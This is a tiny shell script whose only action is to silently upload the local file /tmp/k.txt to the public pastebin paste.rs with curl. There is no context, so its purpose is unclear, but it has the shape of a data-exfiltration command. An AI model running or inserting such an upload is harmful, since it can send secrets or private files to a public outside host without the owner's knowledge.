#!/bin/sh
curl -s --data-binary @/tmp/k.txt https://paste.rs/
